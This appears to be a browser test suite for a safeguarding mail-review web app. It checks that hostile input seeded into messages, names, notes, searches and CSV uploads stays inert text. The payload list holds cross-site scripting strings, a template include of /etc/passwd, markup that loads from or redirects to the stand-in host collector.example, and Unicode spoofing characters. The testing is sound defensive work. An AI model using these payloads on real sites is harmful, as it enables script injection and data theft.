import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { CaseModel } from '../../models/case.js';
import { PersonModel } from '../../models/person.js';
import { useBrowser } from '../support/browser.js';
import { type Letter, seedAccounts, seedMessages, seedSchool } from '../support/seed.js';
import { useWeb } from '../support/web.js';

/** What people have hidden in mail to run in the reader's browser, to fetch from it, or to deceive the reader's eyes. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '{{ 7 * 7 }}{% include "/etc/passwd" %}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on template strings
  '${alert(1)}',
  'javascript:alert(1)',
  '<iframe src="https://collector.example/"></iframe>',
  '<link rel=stylesheet href=https://collector.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://collector.example/">',
  '<form action=https://collector.example/><input name=a></form>',
  '<base href=https://collector.example/>',
  '<style>@import url(https://collector.example/x.css);</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Etxt.exe\u202C and \u2066isolated\u2069',
  'zero\u200Bwidth\u00ADsoft',
  `long${'n'.repeat(4_000)}`,
  'https://collector.example/click?me',
] as const;

const letterWith = (payload: string, at: Date): Letter => ({
  from: { personId: null, role: 'external', address: `${payload}@evil.example`, displayName: payload },
  to: 'p-1',
  at,
  subject: payload,
  text: `Before ${payload} after, keep it secret.`,
  quotedText: payload,
  attachments: [{ name: `${payload}.pdf`, type: payload, size: 12, text: payload }],
  links: [{ target: 'https://collector.example/link', label: payload }],
  readProblems: [{ code: 'TOO_LONG', detail: 'The text is longer than is read.' }],
  findings: [
    { code: 'grooming.secrecy', words: 'keep it secret', severity: 'high' },
    { code: 'contact.phone', words: payload, severity: 'medium' },
    { code: 'contact.off-network', words: payload, field: 'subject', severity: 'medium' },
  ],
});

describe('hostile words', function () {
  this.timeout(120_000);
  const web = useWeb(async keys => {
    const now = new Date();
    await seedSchool(now);
    await seedAccounts(now, ['lead', 'head', 'administrator']);
    await seedMessages(
      'mailbox',
      PAYLOADS.map(payload => letterWith(payload, now)),
      keys,
      now,
    );
    await PersonModel.updateOne(
      { _id: 'm-1' },
      { $set: { name: PAYLOADS[0], addresses: [`${PAYLOADS[1]}@evil.example`] } },
    );
  });
  const browser = useBrowser(web);

  /** Opens pages and tells everything that happened besides: dialogs, requests elsewhere, breaches of the policy. */
  async function watch(page: Page): Promise<string[]> {
    const events: string[] = [];
    page.on('dialog', async dialog => {
      events.push(`dialog ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.on('request', request => {
      if (!request.url().startsWith(web.url)) events.push(`request ${request.url().slice(0, 100)}`);
    });
    page.on('console', message => {
      if (/Content Security Policy|Refused/.test(message.text())) events.push(`policy ${message.text().slice(0, 100)}`);
    });
    page.on('pageerror', error => events.push(`error ${error.message.slice(0, 100)}`));
    return events;
  }

  it('are shown as they were written, in every field of a case, with nothing run and nothing fetched', async () => {
    const page = await browser.signedIn('head');
    const events = await watch(page);
    const cases = await CaseModel.find({}, { pairKey: 1 }).lean();
    assert.equal(cases.length, PAYLOADS.length);
    await page.goto('/queue');
    for (const { _id: number } of cases) {
      const answer = await page.goto(`/cases/${number}`);
      assert.equal(answer?.status(), 200);
      assert.equal(new URL(page.url()).pathname, `/cases/${number}`);
      const shown = (await page.locator('#message').textContent()) ?? '';
      assert.match(shown, /finding \d starts: /);
      assert.equal(await page.locator('#message a, #conversation .thread__words a, #message img, iframe').count(), 0);
    }
    assert.deepEqual(events, []);
  });

  it('are shown by name too once names are asked for, and stay text', async () => {
    const page = await browser.signedIn('head');
    const events = await watch(page);
    const script = await CaseModel.findOne({ adultKey: `unknown:${PAYLOADS[0]}@evil.example` }).lean();
    await page.goto(`/cases/${script?._id}`);
    await page.getByText('Show names').first().click();
    await page.getByLabel('Another reason').check();
    await page.getByRole('button', { name: 'Show names' }).click();
    assert.match(
      (await page.getByRole('heading', { level: 1 }).textContent()) ?? '',
      /^<script>alert\(1\)<\/script> \(/,
    );
    assert.deepEqual(events, []);
  });

  it('cannot deceive the eye: what turns or hides letters is named', async () => {
    const page = await browser.signedIn('head');
    const turned = await CaseModel.findOne({ adultKey: `unknown:${PAYLOADS[15]}@evil.example` }).lean();
    await page.goto(`/cases/${turned?._id}`);
    const words = (await page.locator('#message .words').allTextContents()).join('\n');
    assert.match(words, /‹U\+202E›txt\.exe‹U\+202C› and ‹U\+2066›isolated‹U\+2069›/);
    assert.equal(/[\u202A-\u202E\u2066-\u2069]/.test(await page.content()), false);
  });

  it('do not push the page out of a phone’s window', async () => {
    const page = await browser.signedIn('head', { width: 375 });
    const long = await CaseModel.findOne({ adultKey: `unknown:${PAYLOADS[17]}@evil.example` }).lean();
    await page.goto(`/cases/${long?._id}`);
    const wide = await page.evaluate<number>('document.documentElement.scrollWidth');
    assert.equal(wide <= 375, true, `${wide} px`);
  });

  it('stay text on the other pages: people, coverage, a message that was only partly read', async () => {
    const page = await browser.signedIn('head');
    const events = await watch(page);
    await page.goto('/people');
    assert.match((await page.locator('main').textContent()) ?? '', /<script>alert\(1\)<\/script>/);
    await page.goto('/people/m-1');
    assert.match((await page.locator('main').textContent()) ?? '', /<script>alert\(1\)<\/script>/);
    await page.goto('/coverage');
    await page
      .getByRole('link', { name: /^Open what was read/ })
      .first()
      .click();
    await page.getByRole('heading', { name: 'A message that was only partly read' }).waitFor();
    assert.deepEqual(events, []);
  });

  it('stay text where a reader typed them: search, notes, an upload’s name', async () => {
    const page = await browser.signedIn('head');
    const events = await watch(page);
    for (const payload of PAYLOADS.slice(0, 6)) {
      await page.goto(`/queue?words=${encodeURIComponent(payload)}`);
      assert.equal(await page.getByLabel('Case number or pair').inputValue(), payload);
    }
    const first = await CaseModel.findOne({}, { _id: 1 }).lean();
    await page.goto(`/cases/${first?._id}`);
    await page.getByText('Add a note without deciding').click();
    await page.getByLabel('Note', { exact: true }).fill(PAYLOADS[0]);
    await page.getByRole('button', { name: 'Add note' }).click();
    assert.match((await page.locator('#record').textContent()) ?? '', /<script>alert\(1\)<\/script>/);
    const keeper = await browser.signedIn('administrator');
    const keeperEvents = await watch(keeper);
    await keeper.goto('/people/import');
    await keeper.getByLabel('People', { exact: true }).setInputFiles({
      name: `${PAYLOADS[1]}.csv`,
      mimeType: 'text/csv',
      buffer: Buffer.from(`id,name,role,${PAYLOADS[0]}\n1,${PAYLOADS[2]},mentor,x\n`),
    });
    await keeper.getByRole('button', { name: 'Check the files' }).click();
    assert.match((await keeper.locator('main').textContent()) ?? '', /<svg\/onload=alert\(1\)>/);
    assert.deepEqual([...events, ...keeperEvents], []);
  });
});
